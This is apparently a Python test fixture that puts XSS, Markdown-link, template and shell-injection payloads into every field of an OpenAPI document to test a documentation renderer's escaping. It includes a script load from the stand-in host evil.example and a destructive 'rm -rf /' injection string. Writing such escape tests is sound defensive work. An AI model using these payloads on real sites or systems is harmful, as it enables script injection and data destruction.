"""Payloads that try to escape from text, and a document with a payload in every text field."""

from __future__ import annotations

from tests.docs.specs import JSON, Json

PAYLOADS = (
    # HTML that runs script
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</code></pre><script>alert(1)</script>",
    "</td></tr></table><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi//xlink:href='javascript:alert(1)'>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<style>@import 'javascript:alert(1)';</style>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<form action='javascript:alert(1)'><button>x</button></form>",
    "<!--><script>alert(1)</script-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php alert(1) ?>",
    "<div\n\nonclick=alert(1)>",
    # attributes
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    "x` onmouseover=alert(1) `",
    "javascript:alert(1)",
    # links of Markdown
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:msgbox(1))",
    "[x]\n\n[x]: javascript:alert(1)",
    "![x](javascript:alert(1))",
    '![x](x"onerror="alert(1))',
    "<javascript:alert(1)>",
    # broken Markdown
    "```\nnever closed <script>alert(1)</script>",
    "~~~html\n<script>alert(1)</script>",
    "a ` b <script>alert(1)</script> ` c `",
    "| a | b |\n|---|---|\n| ` | <script>alert(1)</script> ` |",
    "| pipes || everywhere |",
    "\\<script>alert(1)</script>",
    "    <script>alert(1)</script>\n\n<script>alert(1)</script>",
    "- a\n  ```\n  <script>alert(1)</script>\n\n<script>alert(1)</script>",
    "> ```\n> <b>\n\n<script>alert(1)</script>",
    "Text\n===\n\n# Another heading\n---",
    # templates, entities, shells, other scripts
    "{{ 7 * 7 }}{% raw %}${alert(1)}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "'; rm -rf /; echo '",
    '$(touch evil) `touch evil` "$HOME"',
    "\u202eright to left\u202c \u2028 \u00e9\u4e2d\u6587 \U0001f600",
)


def document(text: str) -> Json:
    """Return a document with a text in every field that takes one, names included."""
    return {
        "openapi": "3.0.3",
        "x-provenance": text,
        "x-search-synonyms": {text: [text]},
        "x-story": {
            "title": text,
            "description": text,
            "steps": [{"title": text, "description": text, "operationId": text}],
        },
        "info": {
            "title": text,
            "version": text,
            "description": text,
            "license": {"name": text, "url": text},
        },
        "servers": [{"url": f"https://api.example.com/{text}", "description": text}],
        "tags": _tags(text),
        "paths": {
            f"/{text}": {"post": _operation(text)},
            "/plain": {"get": {**_operation(text), "operationId": f"{text}2"}},
        },
        "components": _components(text),
    }


def _tags(text: str) -> list[Json]:
    guide = {"name": f"{text} guide", "description": text}
    return [
        {"name": text, "description": text},
        {**guide, "x-traitTag": True, "x-provenance": text},
    ]


def _operation(text: str) -> Json:
    parameter = {"name": text, "required": True, "description": text, "example": text}
    response = {
        "description": text,
        "headers": {text: _header(text)},
        "content": _content(text),
        "links": {text: {"operationId": text, "description": text}},
    }
    return {
        "operationId": text,
        "tags": [text],
        "x-group": text,
        "summary": text,
        "description": text,
        "x-description-provenance": text,
        "parameters": [
            {**parameter, "in": place, "schema": _plain(text)}
            for place in ("query", "header", "cookie")
        ],
        "requestBody": {"description": text, "content": _content(text)},
        "responses": {
            "200": response,
            "404": {"$ref": "#/components/responses/Shared"},
            text: {"description": text, "content": _content(text)},
        },
        "security": [{text: []}],
    }


def _components(text: str) -> Json:
    both = {"properties": {"a": _reference(text), "b": _plain(text)}}
    shared = {"description": text, "content": _content(text), "headers": {text: _header(text)}}
    key = {"type": "apiKey", "in": "header", "name": text, "description": text}
    return {
        "schemas": {text: _schema(text), f"{text}2": _plain(text), "Both": both},
        "responses": {"Shared": shared},
        "securitySchemes": {text: key},
    }


def _content(text: str) -> Json:
    example = {"summary": text, "description": text, "value": {text: text, "list": [text]}}
    media = {"schema": _reference(text), "examples": {text: example}}
    return {JSON: media, text: {"schema": _schema(text), "example": text}}


def _header(text: str) -> Json:
    return {"description": text, "schema": _plain(text), "example": text}


def _reference(text: str) -> Json:
    name = text.replace("~", "~0").replace("/", "~1").replace("%", "%25")
    return {"$ref": f"#/components/schemas/{name}"}


def _plain(text: str) -> Json:
    named = {"description": text, "default": text, "example": text}
    return {"type": "string", "enum": [text], **named}


def _schema(text: str) -> Json:
    property = {
        **_plain(text),
        "title": text,
        "format": text,
        "pattern": text,
        "enum": [text, "b"],
    }
    return {
        "title": text,
        "description": text,
        "type": "object",
        "required": [text],
        "properties": {text: property, "list": {"type": "array", "items": {"type": "string"}}},
        "additionalProperties": {"type": "string", "description": text},
    }
